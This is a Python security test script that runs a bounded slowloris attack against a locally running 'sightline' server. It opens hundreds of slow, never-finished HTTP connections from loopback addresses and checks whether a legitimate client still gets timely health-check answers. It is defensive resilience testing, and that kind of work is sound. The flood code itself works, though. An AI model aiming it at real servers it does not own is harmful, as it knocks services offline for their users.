#!/usr/bin/env python3
"""Renewing slowloris against a running `sightline run` (security review 1, M3).

ATTACKERS connections from ADDRESSES loopback addresses (127.10.N.1, one per /24 so that the
per-address cap does not hide the global one) each send a request header that never ends,
a line at a time, and reconnect as soon as the server closes them. Meanwhile a legitimate
client at 127.0.0.1 asks GET /api/health on a new connection every INTERVAL seconds.

Passes (exit 0) when at least --min-ok of the legitimate requests were answered 200 in under
--max-latency seconds, and the attack really reached the server's connection cap (more
attack connections were open at once than --cap). Prints the figures either way.
Bounded: runs --duration seconds of attack; every socket has a timeout. Python 3 stdlib only.

    tests/security/slowloris.py http://127.0.0.1:8080
"""

import argparse
import http.client
import os
import selectors
import socket
import statistics
import sys
import threading
import time
import urllib.parse


def parse_args():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("url", help="the server, e.g. http://127.0.0.1:8080")
    p.add_argument("--attackers", type=int, default=300)
    p.add_argument("--addresses", type=int, default=20)
    p.add_argument("--duration", type=float, default=30.0, help="seconds of attack")
    p.add_argument("--warmup", type=float, default=3.0, help="seconds of attack before measuring")
    p.add_argument("--interval", type=float, default=0.2, help="seconds between legitimate requests")
    p.add_argument("--trickle", type=float, default=2.0, help="seconds between header lines")
    p.add_argument("--max-latency", type=float, default=1.0)
    p.add_argument("--min-ok", type=float, default=0.95)
    p.add_argument("--cap", type=int, default=256, help="the server's http.max_connections")
    p.add_argument("--pid", type=int, default=int(os.environ.get("SIGHTLINE_PID", "0")),
                   help="the server's process id, to report its CPU time and RSS (optional; same host)")
    return p.parse_args()


def process_usage(pid):
    """(CPU seconds, RSS in MB) of a local process, or None."""
    try:
        with open("/proc/%d/stat" % pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
        with open("/proc/%d/status" % pid) as f:
            rss_kb = next(int(line.split()[1]) for line in f if line.startswith("VmRSS:"))
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK"), rss_kb / 1024
    except (OSError, ValueError, StopIteration, IndexError):
        return None


class Attack:
    """The slowloris connections, driven by one selector loop on one thread."""

    def __init__(self, host, port, attackers, addresses, trickle):
        self.host, self.port, self.trickle = host, port, trickle
        self.sources = ["127.10.%d.1" % i for i in range(addresses)]
        self.attackers = attackers
        self.sel = selectors.DefaultSelector()
        self.stop = threading.Event()
        self.opened = 0        # connections made
        self.closed_by_server = 0
        self.refused = 0       # answered 503 or failed to connect
        self.max_open = 0
        self.open = 0
        self.next_line = {}    # socket -> when to send the next header line

    def connect(self, i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((self.sources[i % len(self.sources)], 0))
            s.settimeout(2.0)
            s.connect((self.host, self.port))
            s.setblocking(False)
            s.sendall(b"GET /api/health HTTP/1.1\r\nHost: %s\r\n" % self.host.encode())
        except OSError:
            s.close()
            self.refused += 1
            return
        self.opened += 1
        self.open += 1
        self.max_open = max(self.max_open, self.open)
        self.next_line[s] = time.monotonic() + self.trickle
        self.sel.register(s, selectors.EVENT_READ, i)

    def drop(self, s):
        self.sel.unregister(s)
        self.next_line.pop(s, None)
        s.close()
        self.open -= 1

    def run(self, until):
        for i in range(self.attackers):
            self.connect(i)
        while time.monotonic() < until and not self.stop.is_set():
            for key, _ in self.sel.select(timeout=0.1):
                s, i = key.fileobj, key.data
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                # Anything but more waiting means the server is done with this one: a 503
                # (nothing could be evicted), or the close of an eviction or timeout.
                if data.startswith(b"HTTP/1.1 503"):
                    self.refused += 1
                else:
                    self.closed_by_server += 1
                self.drop(s)
                self.connect(i)  # renew at once
            now = time.monotonic()
            for s, due in list(self.next_line.items()):
                if due <= now:
                    try:
                        s.send(b"X-Slow: 1\r\n")
                        self.next_line[s] = now + self.trickle
                    except OSError:
                        pass  # the read side sees the close
        for key in list(self.sel.get_map().values()):
            self.drop(key.fileobj)


def legitimate(host, port, until, interval, results):
    while time.monotonic() < until:
        start = time.monotonic()
        status = 0
        try:
            c = http.client.HTTPConnection(host, port, timeout=5, source_address=("127.0.0.1", 0))
            c.request("GET", "/api/health")
            r = c.getresponse()
            r.read()
            status = r.status
            c.close()
        except (OSError, http.client.HTTPException):
            status = -1
        results.append((status, time.monotonic() - start))
        time.sleep(max(0.0, interval - (time.monotonic() - start)))


def main():
    a = parse_args()
    u = urllib.parse.urlsplit(a.url)
    host, port = u.hostname, u.port or 80
    usage_before = process_usage(a.pid) if a.pid else None
    start = time.monotonic()
    end = start + a.duration
    attack = Attack(host, port, a.attackers, a.addresses, a.trickle)
    t = threading.Thread(target=attack.run, args=(end,), daemon=True)
    t.start()
    time.sleep(a.warmup)
    results = []
    legitimate(host, port, end, a.interval, results)
    attack.stop.set()
    t.join(timeout=10)

    n = len(results)
    ok = sum(1 for status, latency in results if status == 200 and latency < a.max_latency)
    latencies = sorted(latency for _, latency in results) or [0.0]
    p95 = latencies[min(len(latencies) - 1, int(0.95 * len(latencies)))]
    statuses = {}
    for status, _ in results:
        statuses[status] = statuses.get(status, 0) + 1
    ratio = ok / n if n else 0.0
    print("slowloris: %d attack connections from %d addresses for %.0f s: %d opened, at most %d open at once, "
          "%d closed by the server, %d refused"
          % (a.attackers, a.addresses, a.duration, attack.opened, attack.max_open, attack.closed_by_server,
             attack.refused))
    print("slowloris: legitimate client: %d/%d answered 200 in under %.1f s (%.1f %%); latency median %.3f s, "
          "p95 %.3f s, max %.3f s; statuses %s"
          % (ok, n, a.max_latency, 100 * ratio, statistics.median(latencies), p95, latencies[-1],
             dict(sorted(statuses.items()))))
    usage_after = process_usage(a.pid) if a.pid else None
    if usage_before and usage_after:
        print("slowloris: server: %.1f CPU-s over the %.0f s, RSS %.0f MB before, %.0f MB after"
              % (usage_after[0] - usage_before[0], a.duration, usage_before[1], usage_after[1]))
    failed = False
    if attack.max_open <= a.cap:
        print("slowloris: FAIL: the attack never held more than the cap (%d) open at once: not a test" % a.cap)
        failed = True
    if n == 0 or ratio < a.min_ok:
        print("slowloris: FAIL: under %.0f %% answered in time" % (100 * a.min_ok))
        failed = True
    if not failed:
        print("slowloris: PASS")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
